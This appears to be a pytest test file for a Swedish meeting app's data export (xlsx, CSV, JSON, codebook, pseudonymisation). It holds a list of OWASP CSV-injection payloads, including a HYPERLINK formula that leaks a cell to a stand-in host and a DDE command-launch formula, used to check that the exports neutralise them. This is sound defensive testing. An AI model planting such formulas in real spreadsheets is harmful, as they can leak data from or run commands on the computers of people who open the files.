"""The raw data as organisers and the researcher open it: xlsx, two CSV forms, JSON, codebook.

Every file is opened back with an independent reader (openpyxl for the workbook, the csv
module for CSV) and the OWASP formula set is checked inert in each.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app import i18n
from app.export import export_all
from app.export.tables import FORMULA_STARTS, neutralise
from app.model import Attendance, Role
from app.protocol import Join, parse
from app.room import Room
from app.store import DB_NAME, Store

# OWASP "CSV injection": every way a cell can start a formula, and two classic payloads.
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
)


def _stored(text: str) -> str:
    """The text as the server keeps it (the protocol trims surrounding white space)."""
    message = parse(json.dumps({"type": "reflect", "id": "probe-000", "phase": 1, "text": text}))
    return message.text  # type: ignore[attr-defined]


STORED = tuple(_stored(p) for p in PAYLOADS)


def _reflect(room: Room, who: object, cid: str, phase: int, text: str) -> None:
    message = parse(json.dumps({"type": "reflect", "id": cid, "phase": phase, "text": text}))
    room.live.reflect(who, message)  # type: ignore[arg-type]


def _answer(room: Room, who: object, sid: str, answers: dict[str, object]) -> None:
    message = parse(json.dumps({"type": "survey", "id": sid, "answers": answers}))
    room.live.answer_survey(who, message)  # type: ignore[arg-type]


@pytest.fixture
def series(tmp_path: Path) -> Path:
    """Two sessions: the same four people come back (one spelled differently), one is new."""
    store = Store(tmp_path / DB_NAME)
    first = Room(store, 1)
    orgs = first.series.organisations
    names = ["Åsa Öberg", "=Formel Person", "Karl Karlsson", "Eva Ek"]
    people = []
    for i, name in enumerate(names):
        role = Role.ELECTED if i % 2 else Role.OFFICIAL
        p = first.join(Join(name, orgs[i % 3].id, role, Attendance.IN_ROOM, "")).participant
        first.attach(p.id)
        people.append(p)
    first.live.start(1)
    first.live.make_groups(size=2)
    for n, text in enumerate(PAYLOADS):
        _reflect(first, people[n % len(people)], f"inj-{n:04d}", 1, text)
    _reflect(first, people[0], "plain-0001", 1, "Rad ett\nrad två; med semikolon, och komma")
    first.live.start(3)
    for i, p in enumerate(people[:3]):  # Eva Ek does not answer in session 1
        _answer(first, p, f"s1-{i:06d}", {"perspective": i + 1, "takeaway": PAYLOADS[i]})
    second = Room(store, 2)
    again = ["åsa  öberg", "=Formel Person", "Karl Karlsson", "Ny Person"]
    later = []
    for i, name in enumerate(again):
        role = Role.ELECTED if i % 2 else Role.OFFICIAL
        p = second.join(Join(name, orgs[i % 3].id, role, Attendance.REMOTE, "")).participant
        second.attach(p.id)
        later.append(p)
    second.live.start(3)
    for i, p in enumerate(later):
        _answer(second, p, f"s2-{i:06d}", {"perspective": 5 - i})
    store.close()
    return tmp_path / DB_NAME


def _csv_rows(path: Path, delimiter: str, encoding: str) -> list[list[str]]:
    with open(path, encoding=encoding, newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def test_neutralise_covers_the_owasp_set() -> None:
    for text in PAYLOADS:
        assert neutralise(text) == "'" + text
    assert neutralise("Vanlig text") == "Vanlig text"
    assert neutralise(-3) == -3 and neutralise(True) is True
    assert {"=", "+", "-", "@", "\t", "\r"} <= FORMULA_STARTS


def test_the_workbook_has_typed_sheets_with_frozen_swedish_headers_and_no_formula(
    series: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    export_all(series, out, sessions=[1])
    book = load_workbook(out / "traff1-data" / "data.xlsx")
    assert book.sheetnames == [
        "Deltagare",
        "Grupper",
        "Reflektioner",
        "Enkätsvar",
        "Prickar",
        "Enkät per person",
        "Kodbok",
    ]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == sheet.dimensions, sheet.title  # filters on every column
        assert all(cell.font.bold for cell in sheet[1]), sheet.title
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    cards = book["Reflektioner"]
    header = [c.value for c in cards[1]]
    assert header[:2] == ["Träff", "Moment (nr)"] and "Text" in header and "Lyft" in header
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in cards.iter_rows(2)]
    texts = [r["Text"] for r in rows]
    assert all(p in texts for p in STORED)  # the exact text, as a string cell
    for row in cards.iter_rows(min_row=2):
        cell = row[header.index("Text")]
        if cell.value in STORED:
            assert cell.data_type == "s" and cell.quotePrefix, cell.value
    assert "Rad ett\nrad två; med semikolon, och komma" in texts
    assert all(isinstance(r["Träff"], int) and r["Träff"] == 1 for r in rows)
    assert all(isinstance(r["Lyft"], bool) for r in rows)
    assert all(isinstance(r["Skriven"], dt.datetime) for r in rows)
    people = book["Deltagare"]
    names = [c.value for c in people[1]]
    assert "Namn" not in names  # names only on request


def test_excel_csv_uses_semicolons_bom_and_inert_text(series: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export_all(series, out, sessions=[1], names=True)
    path = out / "traff1-data" / "excel" / "reflections.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = _csv_rows(path, ";", "utf-8-sig")
    assert rows[0][0] == "Träff" and "Text" in rows[0]
    texts = [row[rows[0].index("Text")] for row in rows[1:]]
    for payload in STORED:
        assert "'" + payload in texts
    assert not [t for t in texts if t and t[0] in FORMULA_STARTS]
    assert "Rad ett\nrad två; med semikolon, och komma" in texts
    written = [row[rows[0].index("Skriven")] for row in rows[1:]]
    assert all(dt.datetime.strptime(w, "%Y-%m-%d %H:%M:%S") for w in written)
    people = _csv_rows(out / "traff1-data" / "excel" / "participants.csv", ";", "utf-8-sig")
    names = [row[people[0].index("Namn")] for row in people[1:]]
    assert "'=Formel Person" in names and "Åsa Öberg" in names


def test_plain_csv_is_rfc_4180_for_tools(series: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export_all(series, out, sessions=[1])
    path = out / "traff1-data" / "reflections.csv"
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = _csv_rows(path, ",", "utf-8")
    assert rows[0][:3] == ["session", "phase", "kind"]
    texts = [row[rows[0].index("text")] for row in rows[1:]]
    assert not [t for t in texts if t and t[0] in FORMULA_STARTS]
    assert "'=1+1" in texts


def test_json_keeps_the_exact_text(series: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export_all(series, out, sessions=[1], names=True)
    data = json.loads((out / "traff1-data" / "data.json").read_text("utf-8"))
    texts = [r["text"] for r in data["reflections"]]
    assert all(p in texts for p in STORED)
    assert "=Formel Person" in [p["name"] for p in data["participants"]]


def test_the_same_person_has_the_same_pseudonym_in_every_session(
    series: Path, tmp_path: Path
) -> None:
    whole, only_two = tmp_path / "whole", tmp_path / "two"
    export_all(series, whole, sessions=None)
    export_all(series, only_two, sessions=[2])
    rows = _csv_rows(whole / "serie-data" / "survey_long.csv", ",", "utf-8")
    header = rows[0]
    assert header[:5] == ["person", "session", "organisation", "role", "attendance"]
    table = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert len(table) == 8  # one row per participant per session
    by_person: dict[str, list[str]] = {}
    for row in table:
        by_person.setdefault(row["person"], []).append(row["session"])
    # Åsa (spelled differently), the formula name and Karl came back; Eva and Ny did not.
    assert sorted(by_person.values()) == [["1"], ["1", "2"], ["1", "2"], ["1", "2"], ["2"]]
    assert by_person["P001"] == ["1", "2"]  # Åsa joined first: P001 in both sessions
    perspective = {(r["person"], r["session"]): r["perspective"] for r in table}
    assert perspective[("P001", "1")] == "1" and perspective[("P001", "2")] == "5"
    assert perspective[("P004", "1")] == "-9"  # Eva did not answer: the missing-value code
    alone = _csv_rows(only_two / "traff2-data" / "survey_long.csv", ",", "utf-8")
    assert sorted(r[0] for r in alone[1:]) == sorted(
        r["person"] for r in table if r["session"] == "2"
    )
    assert "Åsa" not in (whole / "serie-data" / "survey_long.csv").read_text("utf-8")


def test_the_codebook_describes_every_variable_in_both_languages(
    series: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    export_all(series, out, sessions=None)
    rows = _csv_rows(out / "serie-data" / "codebook.csv", ",", "utf-8")
    header = rows[0]
    assert header[:2] == ["table", "variable"]
    entries = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    book = {e["variable"]: e for e in entries if e["table"] == "survey_long"}
    long_header = _csv_rows(out / "serie-data" / "survey_long.csv", ",", "utf-8")[0]
    assert list(book) == long_header  # every column of the table, in order
    # ... and every column of every other table of the raw data, described.
    for table in ("participants", "groups", "reflections", "survey", "votes"):
        columns = _csv_rows(out / "serie-data" / f"{table}.csv", ",", "utf-8")[0]
        described = [e for e in entries if e["table"] == table]
        assert [e["variable"] for e in described] == columns, table
        assert all(e["question_sv"] and e["question_en"] for e in described), table
    hidden = next(e for e in entries if e["table"] == "reflections" and e["variable"] == "hidden")
    assert (
        hidden["type"].startswith("Ja/nej (1/0")
        and "hidden by the facilitator" in hidden["question_en"]
    )
    item = book["perspective"]
    assert item["question_sv"] == "Träffen gav mig nya perspektiv på digital transformation."
    assert item["question_en"].startswith("The session gave me new perspectives")
    assert "Instämmer inte alls" in item["scale"] and "Strongly disagree" in item["scale"]
    assert item["missing"] == "inget svar: -9 / no answer: -9" and item["sessions"] == "1, 2, 3"
    assert "empty" in book["takeaway"]["missing"]
    workbook = load_workbook(out / "serie-data" / "data.xlsx")
    assert workbook["Kodbok"].max_row == len(entries) + 1


def test_english_exports_have_english_titles(series: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    i18n.set_language("en")
    try:
        export_all(series, out, sessions=[1], names=True)
    finally:
        i18n.set_language("sv")
    book = load_workbook(out / "session1-data" / "data.xlsx", read_only=True)
    assert book.sheetnames[0] == "Participants" and "Codebook" in book.sheetnames
    rows = _csv_rows(out / "session1-data" / "excel" / "survey.csv", ";", "utf-8-sig")
    assert rows[0][0] == "Session"
    groups = {p.name for p in (out / "session1-groups").iterdir()}
    assert groups == {"zoom-session1-phase2.csv", "rooms.csv", "table-plan.pdf"}


def test_the_table_catalogues_match() -> None:
    root = Path(__file__).resolve().parent.parent / "app" / "locales"
    sv = json.loads((root / "tables-sv.json").read_text("utf-8"))
    en = json.loads((root / "tables-en.json").read_text("utf-8"))
    assert sorted(sv) == sorted(en) and all(sv.values()) and all(en.values())
    # The areas are merged into one catalogue: a key here must not change another's text.
    for area in ("", "export-"):
        other = json.loads((root / f"{area}sv.json").read_text("utf-8"))
        assert not set(sv) & set(other), set(sv) & set(other)


def test_pseudonyms_link_sessions_but_never_two_people_of_one_session() -> None:
    from app.export.data import person_pseudonyms
    from app.model import Participant

    def someone(pid: str, session: int, name: str, at: float, org: int = 1) -> Participant:
        return Participant(pid, session, name, org, Role.ELECTED, Attendance.IN_ROOM, "", at)

    people = [
        (someone("a", 1, "Anna Ek", 1), None),
        (someone("f", 1, "Bosse", 1.5), "r1"),
        (someone("b", 1, "anna  ek", 2), None),  # a second Anna Ek in the same session
        (someone("c", 2, "ANNA EK", 3), None),
        (someone("d", 2, "Anna Ek", 4), None),
        (someone("e", 2, "Bo Berg", 5), "r1"),  # another name, the same roster id
        (someone("g", 3, "Bosse", 6), None),  # linked through session 1's name
        (someone("h", 3, "Anna Ek", 7, org=2), None),  # another organisation: another person
    ]
    assert person_pseudonyms(people) == {
        "a": "P001",
        "f": "P002",
        "b": "P003",
        "c": "P001",
        "d": "P003",
        "e": "P002",
        "g": "P002",
        "h": "P004",
    }


def test_the_per_person_survey_is_as_anonymous_as_the_participant_rows(
    series: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    export_all(series, out, sessions=None)
    people = list(csv.DictReader(open(out / "serie-data" / "participants.csv", encoding="utf-8")))
    long = list(csv.DictReader(open(out / "serie-data" / "survey_long.csv", encoding="utf-8")))
    shown = {(r["participant"], r["session"]): r for r in people}
    assert any(r["organisation"] == "*" for r in people)  # four people: generalised
    for row in long:
        match = shown[(row["person"], row["session"])]
        for column in ("organisation", "role", "attendance"):
            assert row[column] == match[column], (row, match)


@pytest.mark.parametrize("seed", range(20))
def test_a_person_hides_the_same_columns_in_every_session(seed: int) -> None:
    import random
    from collections import Counter

    from app.export import kanon

    rng = random.Random(seed)
    rows = []
    for person in range(1, 19):
        org, role = rng.choice("ABCD"), rng.choice(("elected", "official"))
        for session in (1, 2, 3):
            if rng.random() < 0.7:
                rows.append(
                    {
                        "session": session,
                        "participant": f"P{person:03d}",
                        "organisation": org,
                        "role": role,
                        "function": rng.choice(("", "", "IT-chef")),
                        "attendance": rng.choice(("in_room", "in_room", "remote")),
                    }
                )
    tables = {"participants": rows, "reflections": [], "survey": [], "groups": []}
    kanon.apply_to_tables(tables, 3)
    out = tables["participants"]
    hidden: dict[str, set[tuple[str, ...]]] = {}
    for row in out:
        mask = tuple(c for c in kanon.QUASI_IDENTIFIERS if row[c] == kanon.HIDDEN)
        hidden.setdefault(row["participant"], set()).add(mask)
    assert all(len(masks) == 1 for masks in hidden.values()), hidden  # the same in every session
    for session in (1, 2, 3):
        mine = [r for r in out if r["session"] == session]
        if len(mine) >= 3:
            assert min(kanon.class_sizes(mine).values()) >= 3
    assert Counter(r["participant"] for r in out) == Counter(r["participant"] for r in rows)
